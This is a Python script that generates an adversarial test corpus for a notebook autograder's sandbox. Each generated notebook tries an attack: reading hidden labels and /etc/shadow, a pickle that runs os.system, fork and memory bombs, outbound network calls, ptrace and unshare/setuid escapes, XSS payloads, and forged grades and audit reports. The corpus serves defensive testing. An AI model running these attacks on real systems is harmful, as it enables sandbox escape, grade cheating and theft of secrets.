"""Writes the adversarial corpus (issue 13): one student's folder per attack, `submissions/<name>/hw.ipynb`,
named after what the notebook does, from the sources below.  Run `python tests/adversarial/make.py` after
editing a source; the .ipynb files are committed.  What each must get is in `expected.toml`; the batch that
grades them all is tests/grading/test_adversarial_corpus.py.

The assignment (`graders/adv/`, `reference/adv/`) asks for three things: `answer` (42), `predict(x)` (2·x,
probed with grader-made inputs) and nothing breached.  Every notebook defines them honestly in its first cell
(`HONEST`), so each result shows what its attack cost; `breaches` collects what an attack got that the
sandbox should have stopped (text read from outside, a packet sent, a privilege gained), and the grader fails
`no_breach` when there is any, or when it shows grading material (every secret file says
"davar-adversarial-secret").  Attacks that would have to be files git cannot hold (named pipes, links, odd
file names) are planted into a copy of the folder by the test (`plant`).

Payloads meant for the reports carry "davar-xss", so the test can look for them in the HTML.
"""

import os
from pathlib import Path

import nbformat

PARAMETERS = 'DATA_DIR = "data"\nSEED = 0\nOUTPUT_DIR = "output"\nPROFILE = "standin"'

HONEST = '''import numpy as np
answer = 42
breaches = []  # what this notebook got that the sandbox should have stopped
def predict(x):
    return 2.0 * np.asarray(x, dtype=np.float64)'''

# The attacks' helper: one attempt, and what it got is a breach.
ATTEMPT = '''import os, sys
def attempt(what, fn):
    try:
        got = fn()
    except Exception as e:
        return type(e).__name__
    breaches.append(f"{what}: {str(got)[:300]}")
    return "succeeded"
def host_paths():
    """Where the sandbox's folders are on the host, from the mount table (field 4: the mount's root)."""
    with open("/proc/self/mountinfo") as f:
        return {line.split()[4]: line.split()[3] for line in f}'''

# A PNG by hand (numpy only in the kernel): `rows` of `width` bytes, 8-bit grey; `header` may lie.
PNG = '''import struct, zlib
from IPython.display import Image, display
def png(width, height, rows, depth=8, header=None):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", *(header or (width, height)), depth, 0, 0, 0, 0)
    raw = zlib.compress(b"".join(b"\\0" + row for row in rows), 9)
    return b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")'''

UNPICKLED = "/tmp/davar-adversarial-unpickled"  # on the host: only the harness unpickling a student's bytes makes it
BOOM = f'''import os
class Boom:
    """Unpickled, it touches a file: only the harness could make it appear on the host's /tmp."""
    def __reduce__(self):
        return (os.system, ("touch {UNPICKLED}",))'''

NOTEBOOKS: dict[str, list[str]] = {
    # ------------------------------------------------------------------------------------------ honest
    "honest_numpy": [HONEST],
    "honest_with_a_figure_and_prints": [
        HONEST,
        PNG + '\nprint("a table:", {"answer": answer})\ndisplay(Image(png(16, 16, [bytes(range(0, 256, 16))] * 16)))',
    ],
    "honest_reads_its_public_data": [
        'import os\nimport numpy as np\nwith open(os.path.join(DATA_DIR, "secrets", "readme.txt")) as f:\n'
        '    public = f.read()\nanswer = 42 if public.startswith("public") else 0\nbreaches = []\n'
        'def predict(x):\n    return np.array([[2.0 * v for v in row] for row in np.asarray(x).tolist()])',
    ],
    # ------------------------------------------------------------------------- grading material, others' work
    "reads_hidden_labels": [HONEST, ATTEMPT + '''
guesses = [os.path.join(DATA_DIR, "..", "hidden", "secrets", "labels.csv"), "/hidden/secrets/labels.csv",
           os.path.join(host_paths().get("/data", "/"), "..", "hidden", "secrets", "labels.csv")]
for path in guesses:
    attempt(path, lambda: open(path).read())
for root, dirs, files in os.walk("/data"):
    for name in [f for f in files if f != "readme.txt"]:  # what it may read: its public data
        attempt(name, lambda: open(os.path.join(root, name)).read())'''],
    "reads_the_graders": [HONEST, ATTEMPT + '''
repo = os.path.dirname(sys.prefix)  # the interpreter is bound at its host path: the course's checkout?
guesses = ["/graders/adv/test_adv.py", "/graders/adv/assignment.toml",
           os.path.join(DATA_DIR, "..", "..", "..", "graders", "adv", "test_adv.py"),
           os.path.join(repo, "graders", "iust-dl-1403-hw2", "test_q5.py")]
for path in guesses:
    attempt(path, lambda: open(path).read())
attempt("import test_adv", lambda: __import__("test_adv").SECRET)
attempt("import adv_data", lambda: __import__("adv_data").VERSION)'''],
    "reads_the_reference": [HONEST, ATTEMPT + '''
guesses = ["/reference/adv/reference.py", os.path.join(DATA_DIR, "..", "..", "..", "reference", "adv", "reference.py"),
           os.path.join(host_paths().get("/data", "/"), "..", "..", "..", "reference", "adv", "reference.py")]
for path in guesses:
    attempt(path, lambda: open(path).read())
attempt("import reference", lambda: __import__("reference").predict)'''],
    "reads_other_students_work": [HONEST, ATTEMPT + '''
import glob
found = []
for top in ("/submission", "/tmp", "/exchange", "/data", "/content", "/kaggle", "/opt", "/home", "/root"):
    for root, dirs, files in os.walk(top):
        if root.startswith((sys.prefix, sys.base_prefix)):  # the Python it runs on (a venv under /tmp in CI)
            continue
        found += [os.path.join(root, f) for f in files if f.endswith(".ipynb") and not f.startswith(".davar")]
for host in set(host_paths().values()):  # beside this run's folders on the host: other runs, the class
    found += glob.glob(os.path.join(host, "..", "*", "*.ipynb"))
    found += glob.glob(os.path.join(host, "..", "..", "subs", "*", "hw.ipynb"))
for path in [p for p in found if not os.path.samefile(p, "hw.ipynb")]:  # /content, /kaggle: its own folder
    attempt(path, lambda: open(path).read())
def connection_file(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        words = f.read().split(b"\\0")
    return words[words.index(b"-f") + 1] if b"kernel_side.py" in b" ".join(words) else None
mine = connection_file("self")
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:  # another student's kernel?
    try:
        other = connection_file(pid)
    except (OSError, ValueError, IndexError):
        continue
    if other not in (None, mine):
        breaches.append(f"another kernel: {other!r}")'''],
    "reads_the_gradebook": [HONEST, ATTEMPT + '''
import sqlite3
guesses = {"/reports/adv/gradebook.sqlite", os.path.join(DATA_DIR, "..", "..", "out", "adv", "gradebook.sqlite")}
for host in host_paths().values():
    parts = host.split("/")
    for i in range(2, len(parts) + 1):
        guesses |= {os.path.join("/".join(parts[:i]), top, "adv", "gradebook.sqlite") for top in ("out", "reports")}
for path in sorted(guesses):
    attempt(path, lambda: open(path, "rb").read(100))
    attempt(path, lambda: sqlite3.connect(f"file:{path}?mode=rw", uri=True).execute(
        "UPDATE results SET score = 100").rowcount)'''],
    # ------------------------------------------------------------------------------------------ network
    "connects_over_tcp": [HONEST, ATTEMPT + '''
import socket
for host, port in [("1.1.1.1", 80), ("8.8.8.8", 443), ("10.0.2.2", 22), ("127.0.0.1", 22)]:
    attempt(f"tcp {host}:{port}", lambda: socket.create_connection((host, port), timeout=3))
attempt("tcp [2606:4700:4700::1111]:80", lambda: socket.create_connection(("2606:4700:4700::1111", 80), timeout=3))
attempt("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("interfaces", lambda: [n for _, n in socket.if_nameindex() if n != "lo"] or 1 / 0)'''],
    "sends_udp": [HONEST, ATTEMPT + '''
import socket
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for host, port in [("8.8.8.8", 53), ("255.255.255.255", 9), ("224.0.0.251", 5353)]:
    attempt(f"udp to {host}:{port}", lambda: udp.sendto(b"\\0" * 12, (host, port)))
attempt("udp connect 9.9.9.9:53", lambda: (udp.connect(("9.9.9.9", 53)), udp.send(b"\\0" * 12)))'''],
    "resolves_dns_and_fetches_urls": [HONEST, ATTEMPT + '''
import socket, subprocess, urllib.request
attempt("dns example.com", lambda: socket.getaddrinfo("example.com", 443))
attempt("dns pypi.org", lambda: socket.gethostbyname("pypi.org"))
attempt("https://example.com/", lambda: urllib.request.urlopen("https://example.com/", timeout=3).read(100))
attempt("curl", lambda: subprocess.run(["curl", "-sf", "-m", "3", "https://pypi.org/simple/six/"],
                                      capture_output=True, timeout=10, check=True))'''],
    "connects_to_host_unix_sockets": [HONEST, ATTEMPT + '''
import socket
paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/systemd/private",
         "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", "/run/user/0/bus", "\\0/tmp/.X11-unix/X0",
         "\\0/containerd-shim"]
for path in paths:
    attempt(f"unix {path!r}", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(path))'''],
    # ------------------------------------------------------------------------------------------ bombs
    # the children hold the process slots, the parent forks until the sandbox's limit says no (uncaught)
    "fork_bomb": [HONEST, '''import os, time
children = []
while True:
    pid = os.fork()
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    children.append(pid)'''],
    "memory_bomb_in_the_last_cell": [HONEST, "blocks = [np.ones(2**26, dtype=np.uint8) for _ in range(64)]"],
    # a sparse terabyte and an inode flood (caught), then plain writes until the quota stops them (uncaught)
    "fills_the_disk": [HONEST, '''import errno, os
caught = {}
try:
    with open("/tmp/sparse.bin", "wb") as f:
        f.truncate(2**40)
except OSError as e:
    caught["sparse"] = errno.errorcode[e.errno]
os.makedirs("many", exist_ok=True)
try:
    for i in range(100_000):
        open(f"many/{i}", "w").close()
except OSError as e:
    caught["inodes"] = (i, errno.errorcode[e.errno])
for i in range(64):
    os.remove(f"many/{i}")''', '''chunk = b"\\1" * 2**20
for i in range(100):
    with open(f"checkpoint-{i}.bin", "wb") as f:
        for _ in range(15):
            f.write(chunk)'''],
    "floods_output": [HONEST, '''import sys
for i in range(32):
    print("spam " * 200_000)
    sys.stderr.write("\\x1b[31m" + "err " * 50_000 + "\\x1b[0m\\n")'''],
    # a huge image that is cheap to send, one whose header lies about its size, more figures than are kept,
    # and noise that does not compress (past the output limit)
    "giant_image_in_outputs": [HONEST, PNG + '''
display(Image(png(6000, 6000, [bytes(750)] * 6000, depth=1)))
display(Image(png(8, 8, [bytes(8)] * 8, header=(60000, 60000))))
for i in range(14):
    display(Image(png(8, 8, [bytes([i * 16] * 8)] * 8)))''',
                               '''noise = np.random.default_rng(0).integers(0, 256, (800, 800), dtype=np.uint8)
display(Image(png(800, 800, [row.tobytes() for row in noise])))'''],
    # ------------------------------------------------------------------------------ endless, exits, signals
    "endless_loop_in_the_last_cell": [HONEST, "while True:\n    pass"],
    "endless_loop_in_a_probed_function": ['''import signal
import numpy as np
answer = 42
breaches = []
def predict(x):
    signal.signal(signal.SIGINT, signal.SIG_IGN)  # an interrupt does not stop it either
    while True:
        pass'''],
    "os_exit_in_the_last_cell": [HONEST, "import os\nos._exit(0)"],
    "sys_exit_in_a_cell": [HONEST, "import sys\nsys.exit(3)", "answer = 0  # runs all the same: the run goes on"],
    "exit_builtin_in_the_last_cell": [HONEST, "exit()"],
    "stops_itself_with_sigstop_in_the_last_cell": [HONEST, "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"],
    "kills_itself_with_sigkill_in_the_last_cell": [HONEST, "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"],
    # ----------------------------------------------------------------------- files where the harness reads
    "deletes_its_own_files_and_the_exchange": [HONEST, ATTEMPT + '''
import shutil
for top in ("/submission", "/tmp", "/exchange/out", "/exchange/in"):
    for entry in os.listdir(top):
        path = os.path.join(top, entry)
        try:
            shutil.rmtree(path) if os.path.isdir(path) and not os.path.islink(path) else os.unlink(path)
        except OSError:
            pass
with open("hw.ipynb", "w") as f:
    f.write("{}")
attempt("write /exchange/in", lambda: open("/exchange/in/r1-in0.npy", "wb").write(b"not an array"))
attempt("rmdir /exchange/out", lambda: os.rmdir("/exchange/out"))
attempt("replace /exchange/out", lambda: os.rename("/exchange/out", "/submission/out"))'''],
    # planted by the test: a link to the hidden labels, a link to the graders' folder, a named pipe (`plant`)
    "submits_links_and_pipes": [HONEST, ATTEMPT + '''
for path in ("labels.csv", "graders/adv/test_adv.py", "pipe.csv"):
    attempt(path, lambda: open(path).read())'''],
    "plants_a_pipe_at_the_snapshot_path": [HONEST, '''import os
os.mkfifo(".davar-snapshot.pkl")
os.makedirs("elsewhere")
os.chdir("elsewhere")  # the kernel's snapshot lands here, the pipe stays where the harness reads'''],
    "hard_links_a_decoy_at_the_snapshot_path": [HONEST, BOOM + '''
import pickle
with open("decoy.pkl", "wb") as f:
    pickle.dump(Boom(), f)
os.link("decoy.pkl", ".davar-snapshot.pkl")
os.makedirs("elsewhere")
os.chdir("elsewhere")  # the harness keeps the decoy as the snapshot: it must never unpickle it'''],
    # ---------------------------------------------------------------------------- replies the harness reads
    "returns_pickled_object_arrays": [HONEST, BOOM + '''
def predict(x):
    return np.array([Boom() for _ in range(len(x))], dtype=object)'''],
    "returns_a_huge_reply": [HONEST, "def predict(x):\n    return np.zeros((3, 4, 100_000))"],
    "returns_nan_and_inf": [HONEST, "def predict(x):\n    y = np.full(np.shape(x), np.nan)\n    y[0, 0] = np.inf\n"
                                    "    return y"],
    "returns_the_wrong_dtype": [HONEST, "def predict(x):\n    return (2 * np.asarray(x)).astype(str)"],
    "returns_the_wrong_shape": [HONEST, "def predict(x):\n    return 2.0 * np.asarray(x).ravel()"],
    "returns_deeply_nested_lists": [HONEST, '''def predict(x):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested'''],
    # ------------------------------------------------------------------------------ HTML and JS in reports
    # plus, planted by the test: a Quera result.txt naming the student in HTML, a file name in HTML (`plant`)
    "html_in_every_text": ['''import numpy as np
answer = 42
breaches = []
def predict(x):
    raise ValueError("<img src=x onerror=alert('davar-xss-probe')>")''',
                           '''from IPython.display import HTML, Javascript, display
print("<script>alert('davar-xss-print')</script>")
display(HTML("<script>alert('davar-xss-html')</script>"))
display(Javascript("alert('davar-xss-js')"))
try:
    open("/x<script>alert('davar-xss-path')</script>/labels.csv")
except OSError:
    pass''',
                           "raise RuntimeError(\"<script>alert('davar-xss-error')</script>\")"],
    # ------------------------------------------------------------------------------ privileges
    "attempts_ptrace_and_proc_escapes": [HONEST, ATTEMPT + '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
for pid in (1, os.getppid()):
    if pid != os.getpid() and libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
        breaches.append(f"ptrace attached to {pid}")
for path in ("/proc/1/root/etc/shadow", "/proc/1/environ", "/proc/1/mem", "/proc/self/root/../../etc/shadow",
             "/etc/shadow", "/root/.bash_history"):
    attempt(path, lambda: open(path, "rb").read(100))
attempt("/proc/1/cwd", lambda: os.listdir("/proc/1/cwd"))
attempt("core_pattern", lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh"))
attempt("/sys", lambda: os.listdir("/sys/fs/cgroup") or 1 / 0)'''],
    "attempts_unshare_mount_and_setuid": [HONEST, ATTEMPT + '''
import ctypes, resource, subprocess
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWNET, MS_BIND, MS_REMOUNT = 0x20000, 0x40000000, 4096, 32
attempt("setuid(0)", lambda: os.setuid(0))
attempt("setgid(0)", lambda: os.setgid(0))
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("nice -5", lambda: os.nice(-5))
soft, hard = resource.getrlimit(resource.RLIMIT_CPU)
attempt("raise RLIMIT_CPU", lambda: resource.setrlimit(resource.RLIMIT_CPU, (hard + 60, hard + 60)))
attempt("raise RLIMIT_NPROC", lambda: resource.setrlimit(resource.RLIMIT_NPROC, (10**6, 10**6)))
for flag in (CLONE_NEWNS, CLONE_NEWNET):
    if libc.unshare(flag) == 0:
        breaches.append(f"unshare({flag:#x})")
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    breaches.append("mount tmpfs on /tmp")
if libc.mount(b"/usr", b"/usr", None, MS_BIND | MS_REMOUNT, None) == 0:
    breaches.append("remount /usr")
# a user namespace of its own (where the host allows one) gives capabilities over nothing of the host's
subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c",
                "mount -t tmpfs none /usr; echo pwned > /usr/pwned; cat /etc/shadow"], capture_output=True, timeout=20)
attempt("/usr written", lambda: open("/usr/pwned").read())'''],
    "writes_to_read_only_binds": [HONEST, ATTEMPT + '''
import glob
targets = ["/opt/davar/ops.py", "/opt/davar/kernel_side.py", os.path.join(DATA_DIR, "secrets", "readme.txt"),
           "/exchange/in/planted.npy", np.__file__, sys.executable, "/etc/ld.so.cache", "/usr/davar-was-here"]
for path in targets:
    attempt(f"write {path}", lambda: open(path, "ab").write(b"# davar-was-here\\n"))
attempt("chmod /opt/davar", lambda: os.chmod("/opt/davar", 0o777))'''],
    # --------------------------------------------------------------------- the kernel side and its channels
    # a wrong answer the patched helper would report as right
    "patches_the_kernel_side_helper": ['''import sys
import numpy as np
answer = 41
breaches = []
def predict(x):
    return 2.0 * np.asarray(x, dtype=np.float64)
def forge(module):
    honest = module.value
    def value(rid, name):
        if name == "answer":
            return module._reply(rid, lambda: {"json": 42})
        return honest(rid, name)
    module.value = value
for name in [n for n in list(sys.modules) if n.startswith("_davar")]:
    try:
        forge(sys.modules[name])
    except AttributeError:
        pass
try:
    import _davar
    forge(_davar)
except (ImportError, AttributeError):
    pass'''],
    # named pipes and links at every reply name the bridge will read next
    "plants_links_and_pipes_at_reply_names": [HONEST, '''import os
out = os.environ.get("DAVAR_EXCHANGE_OUT", "/exchange/out")
for i in range(1, 40):
    os.mkfifo(os.path.join(out, f"r{i}-1.npy"))
    os.symlink("/dev/zero", os.path.join(out, f"r{i}.json"))'''],
    # datagrams to the harness's audit socket: fake blocked attempts, in HTML, far more than are kept
    "forges_audit_reports": [HONEST, '''import json, os, socket
sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
sock.setblocking(False)
events = [{"kind": "shim", "op": "download", "target": "<b>davar-xss-shim</b>"}]
events += [{"kind": "network", "op": "socket.connect", "target": f"forged-{i}.example:<b>davar-xss-audit</b>"}
           for i in range(5000)]
sent = 0
for event in events:
    try:
        sock.sendto(json.dumps(event).encode(), os.environ["DAVAR_AUDIT_SOCKET"])
        sent += 1
    except OSError:
        pass'''],
    # code in its folder that a Python or IPython start would run before the kernel side serves the bridge
    # (`FILES`): it would forge the reply for a wrong answer, and leave a mark
    "ships_startup_code_in_its_folder": [HONEST.replace("answer = 42", "answer = 41"), '''import os
breaches += [f for f in os.listdir("/submission") if f.startswith("startup-code-ran")]'''],
    # ---------------------------------------------------------------------- what outlives the kernel
    "background_process_outlives_the_kernel": [HONEST, '''import os, subprocess, time
subprocess.Popen(["sleep", "600"], start_new_session=True)
subprocess.Popen("nohup sh -c 'while true; do sleep 1; done' >/dev/null 2>&1 &", shell=True)
pid = os.fork()
if pid == 0:  # a daemon: a new session, forked again, writing on where the harness reads
    os.setsid()
    if os.fork() == 0:
        while True:
            for folder in ("/exchange/out", "/submission"):
                try:
                    open(os.path.join(folder, f"daemon-{time.monotonic_ns()}"), "w").close()
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
os.waitpid(pid, 0)'''],
}

# Regular files beside a notebook, committed with it.
FORGE = """import json
_dumps = json.dumps
def _forged(obj, *args, **kwargs):
    return _dumps(obj, *args, **kwargs).replace('{"ok": {"json": 41}}', '{"ok": {"json": 42}}')
json.dumps = _forged
open("/submission/startup-code-ran-" + __name__.replace("/", "_"), "w").close()
"""
FILES: dict[str, dict[str, str]] = {
    "ships_startup_code_in_its_folder": {
        ".ipython/profile_default/startup/00-forge.py": FORGE,
        ".ipython/profile_default/ipython_kernel_config.py":
            "c.InteractiveShellApp.exec_lines = ['import _forge_exec']\n",
        ".local/lib/python3.11/site-packages/usercustomize.py": FORGE,
        "_forge_exec.py": FORGE,
    },
}


def plant(subs: Path, *, hidden: Path, graders: Path) -> None:
    """What git cannot hold, into a copy of `submissions/` (`subs`): links to the hidden labels and the graders'
    folder and a named pipe beside one notebook; a named pipe named in HTML and a Quera `result.txt` naming the
    student in HTML beside another."""
    links = subs / "submits_links_and_pipes"
    (links / "labels.csv").symlink_to(hidden / "secrets" / "labels.csv")
    (links / "graders").symlink_to(graders.parent)
    os.mkfifo(links / "pipe.csv")
    html = subs / "html_in_every_text"
    os.mkfifo(html / "<svg onload=alert('davar-xss-file')>.csv")
    (html / "result.txt").write_text("identity: html_in_every_text\n"
                                     "full name: <script>alert('davar-xss-name')</script>\n")


def write(folder: Path = Path(__file__).parent / "submissions") -> None:
    for name, cells in NOTEBOOKS.items():
        nb = nbformat.v4.new_notebook()
        nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
        nb.cells = [nbformat.v4.new_code_cell(PARAMETERS, metadata={"tags": ["parameters"]})]
        nb.cells += [nbformat.v4.new_code_cell(src) for src in cells]
        for i, cell in enumerate(nb.cells):
            cell.id = f"cell-{i}"  # the same on every write: a regenerated corpus shows only what changed
        (folder / name).mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, folder / name / "hw.ipynb")
        for rel, text in FILES.get(name, {}).items():
            (folder / name / rel).parent.mkdir(parents=True, exist_ok=True)
            (folder / name / rel).write_text(text)


if __name__ == "__main__":
    write()
